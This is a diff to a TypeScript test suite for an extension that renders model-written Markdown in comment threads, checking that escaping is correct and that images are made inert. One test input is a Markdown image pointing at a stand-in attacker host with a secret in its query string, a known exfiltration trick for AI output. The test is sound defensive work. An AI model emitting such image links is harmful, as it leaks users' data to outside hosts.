@@ -12,9 +12,9 @@ import {
   askThreadLabel,
   asksOn,
   commentingSpans,
-  escapeMarkdownText,
   findingActs,
   findingContextValue,
+  askMarkdown,
   findingMarkdown,
   findingsOn,
   findingThreadLabel,
@@ -26,7 +26,6 @@ import {
   planLineStage,
   resolveDocument,
   uncoveredSpans,
-  withoutImages,
   type ShownDocument,
 } from '../../../extension/commentsPlan';
 import type { TextDocumentRef } from '../../../extension/documentRefs';
@@ -401,21 +400,21 @@ describe('comments plan', () => {
       const [f1] = flaggedFindings(generation());
       assert.ok(f1);
       const markdown = findingMarkdown(f1);
-      assert.ok(markdown.startsWith('**Major** · correctness\n\n'), markdown);
-      assert.ok(markdown.includes('Line 5 \\[drops\\]\\(https://example\\.com\\) the \\<b\\>old\\</b\\> value'), markdown);
-      assert.ok(markdown.includes('The old value is **lost**.'), 'the body stays Markdown');
-      assert.equal(escapeMarkdownText('a\nb *c*'), 'a b \\*c\\*');
+      assert.deepEqual(markdown.commands, [], 'a finding trusts no command');
+      const source = markdown.source;
+      assert.ok(source.startsWith('**Major** · correctness\n\n'), source);
+      assert.ok(source.includes('Line 5 \\[drops\\]\\(https\\:\\/\\/example\\.com\\) the \\<b\\>old\\<\\/b\\> value'), source);
+      assert.ok(source.includes('The old value is **lost**\\.'), `the body stays Markdown: ${source}`);
     });
   });
 });
 
 describe('extension/commentsPlan: model-written Markdown in threads', () => {
-  it('makes every image inert (no fetch when a thread opens) and keeps links and text', () => {
-    const body = 'See ![x](https://attacker.example/p.png?d=secret) and ![ref][r] and [the docs](https://example.com).';
-    const out = withoutImages(body);
-    assert.doesNotMatch(out, /(^|[^\\])!\[/, 'no unescaped image opener is left');
-    assert.match(out, /\[the docs\]\(https:\/\/example\.com\)/, 'links stay links');
-    assert.equal(out.replace(/\\!\[/g, '!['), body, 'only the image openers changed');
+  it('makes every image inert (no fetch when a thread opens) and keeps public links', () => {
+    const out = askMarkdown('See ![x](https://attacker.example/p.png?d=secret) and [the docs](https://example.com).').source;
+    assert.doesNotMatch(out, /(^|[^\\])!\[/, out);
+    assert.match(out, /\\\[image\\: x\\\]/, out);
+    assert.match(out, /\[the docs\]\(<https:\/\/example\.com>\)/, out);
   });
 
   it('quotes a finding claim as the panel does: trimmed and bounded, so both name one thread', () => {
